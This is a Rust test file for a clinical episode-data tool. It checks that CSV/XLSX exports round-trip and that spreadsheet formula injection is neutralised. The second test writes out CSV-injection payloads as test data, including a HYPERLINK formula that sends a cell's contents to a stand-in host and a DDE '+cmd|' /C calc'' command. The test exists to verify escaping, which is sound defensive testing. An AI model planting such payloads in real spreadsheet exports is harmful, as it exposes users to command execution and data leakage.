//! Exports round-trip: what crest exports (CSV or XLSX) imports again unchanged, on both stores.
#![allow(clippy::unwrap_used)]

use crest_core::Date;
use crest_ingest::{export, import_file, ImportOptions};
use crest_store::testing::{databases, scratch_dir};

#[test]
fn csv_and_xlsx_exports_import_again_unchanged() {
    let today = Date::from_ymd(2025, 6, 1).unwrap();
    for db in databases() {
        let mut s = crest_store::open(&db.url).unwrap();
        s.migrate().unwrap();
        s.upsert_programmes(&[crest_core::Programme::parse([
            "P001", "One", "england", "London", "nurse", "mi",
        ])
        .unwrap()])
            .unwrap();
        let dir = scratch_dir("export");
        let src = dir.join("in.csv");
        std::fs::write(
            &src,
            "programme_code,episode_id,nhs_number,family_name,date_of_birth,sex,initiating_event,treatment,event_date,referral_date,status,assessment1_date,core_start_date,core_end_date,assessment2_date,a1_weight_kg,a2_weight_kg,a1_hads_anxiety,a2_hads_anxiety,a1_smoking,delivery_mode,national_opt_out\n\
             P001,E1,9434765919,O'Test,1960-06-15,female,mi_nstemi,pci,2024-04-01,2024-04-03,completed,2024-04-20,2024-05-01,2024-07-01,2024-07-05,81.5,79.25,12,6,current,group_supervised,false\n\
             P001,E2,9434765870,\"Comma, Name\",1955-01-01,male,mi_stemi,pci,2024-05-01,2024-05-03,referred,,,,,,,,,,,\n",
        )
        .unwrap();
        let opts = ImportOptions::new(today);
        let first = import_file(s.as_mut(), &src, &opts, None, &mut |_| {}).unwrap();
        assert_eq!(first.imported, 2, "{:?}", first.errors);
        let records = s
            .find_episodes(
                "P001",
                &crest_store::EpisodeQuery {
                    limit: usize::MAX,
                    ..Default::default()
                },
            )
            .unwrap();
        let csv = dir.join("out.csv");
        std::fs::write(&csv, export::csv_bytes(&records).unwrap()).unwrap();
        let xlsx = dir.join("out.xlsx");
        let bytes = export::xlsx_bytes(&records).unwrap();
        assert!(bytes.starts_with(b"PK"), "a real XLSX (zip) file");
        std::fs::write(&xlsx, bytes).unwrap();
        {
            // The notes sheet says what each column means, in the dictionary's words.
            use calamine::Reader;
            let mut wb = calamine::open_workbook_auto(&xlsx).unwrap();
            assert_eq!(wb.sheet_names(), ["episodes", "notes"]);
            let notes = wb.worksheet_range("notes").unwrap();
            let sex = notes.rows().find(|r| r[0] == "sex").expect("a row for sex");
            assert_eq!(sex[1].to_string(), "Sex");
            assert!(
                sex[4].to_string().contains("female = Female"),
                "{:?}",
                sex[4]
            );
        }
        for file in [&csv, &xlsx] {
            let again = import_file(s.as_mut(), file, &opts, None, &mut |_| {}).unwrap();
            assert_eq!(
                (again.rows, again.unchanged, again.updated, again.rejected),
                (2, 2, 0, 0),
                "{}: {file:?} {:?}",
                db.backend,
                again.errors
            );
        }
        let text = std::fs::read_to_string(&csv).unwrap();
        assert!(
            text.contains("\"Comma, Name\"") && text.contains(",81.5,") && text.contains(",79.25,")
        );
    }
}

/// OWASP CSV injection: cells that a spreadsheet would run as formulas are written as text in
/// the CSV export and the rejected-rows file, are plain strings in the XLSX export, and import
/// again as they were.
#[test]
fn formulas_in_cells_are_never_run_by_a_spreadsheet() {
    let today = Date::from_ymd(2025, 6, 1).unwrap();
    let db = &databases()[0];
    let mut s = crest_store::open(&db.url).unwrap();
    s.migrate().unwrap();
    s.upsert_programmes(&[crest_core::Programme::parse([
        "P001", "One", "england", "London", "nurse", "mi",
    ])
    .unwrap()])
        .unwrap();
    let dir = scratch_dir("formula");
    let src = dir.join("in.csv");
    let link = "=HYPERLINK(\"http://x/?\"&A2,\"click\")";
    std::fs::write(
        &src,
        format!(
            "programme_code,episode_id,nhs_number,family_name,given_name,local_patient_id,date_of_birth,sex,initiating_event,treatment,event_date,referral_date,status\n\
             P001,E1,9434765919,\"{}\",@SUM(1+1),+cmd|' /C calc'!A0,1960-06-15,female,mi_nstemi,pci,2024-04-01,2024-04-03,referred\n",
            link.replace('"', "\"\"")
        ),
    )
    .unwrap();
    let opts = ImportOptions::new(today);
    let first = import_file(s.as_mut(), &src, &opts, None, &mut |_| {}).unwrap();
    assert_eq!(first.imported, 1, "{:?}", first.errors);
    let records = s
        .find_episodes(
            "P001",
            &crest_store::EpisodeQuery {
                limit: usize::MAX,
                ..Default::default()
            },
        )
        .unwrap();
    let csv = export::csv_bytes(&records).unwrap();
    let mut r = csv::Reader::from_reader(csv.as_slice());
    let head = r.headers().unwrap().clone();
    let row = r.records().next().unwrap().unwrap();
    let cell = |name: &str| row[head.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("family_name"), format!("'{link}"));
    assert_eq!(cell("given_name"), "'@SUM(1+1)");
    assert_eq!(cell("local_patient_id"), "'+cmd|' /C calc'!A0");
    let out = dir.join("out.csv");
    std::fs::write(&out, &csv).unwrap();
    let again = import_file(s.as_mut(), &out, &opts, None, &mut |_| {}).unwrap();
    assert_eq!(
        (again.unchanged, again.rejected),
        (1, 0),
        "{:?}",
        again.errors
    );

    // XLSX: string cells, no formula anywhere in the sheet.
    let xlsx = export::xlsx_bytes(&records).unwrap();
    let mut wb: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.clone())).unwrap();
    use calamine::Reader;
    let range = wb.worksheet_range("episodes").unwrap();
    let cells: Vec<String> = range
        .rows()
        .nth(1)
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert!(cells.contains(&link.to_string()), "{cells:?}");
    let formulas = wb.worksheet_formula("episodes").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula cells"
    );

    // The rejected-rows file.
    let bad = dir.join("bad.csv");
    std::fs::write(
        &bad,
        "programme_code,episode_id,nhs_number,date_of_birth,sex,initiating_event,treatment,event_date,referral_date,status\n\
         P001,E2,9434765870,1960-06-15,=1+1,mi_nstemi,pci,2024-04-01,2024-04-03,referred\n",
    )
    .unwrap();
    let errors = dir.join("errors.csv");
    let mut w: csv::Writer<Box<dyn std::io::Write>> =
        csv::Writer::from_writer(Box::new(std::fs::File::create(&errors).unwrap()));
    let sum = import_file(s.as_mut(), &bad, &opts, Some(&mut w), &mut |_| {}).unwrap();
    drop(w);
    assert_eq!(sum.rejected, 1);
    let text = std::fs::read_to_string(&errors).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    for rec in r.records() {
        for c in rec.unwrap().iter() {
            assert!(
                !c.starts_with(['=', '+', '@', '\t', '\r']),
                "{c:?} in {text}"
            );
        }
    }
    assert!(text.contains("'=1+1"), "{text}");
}
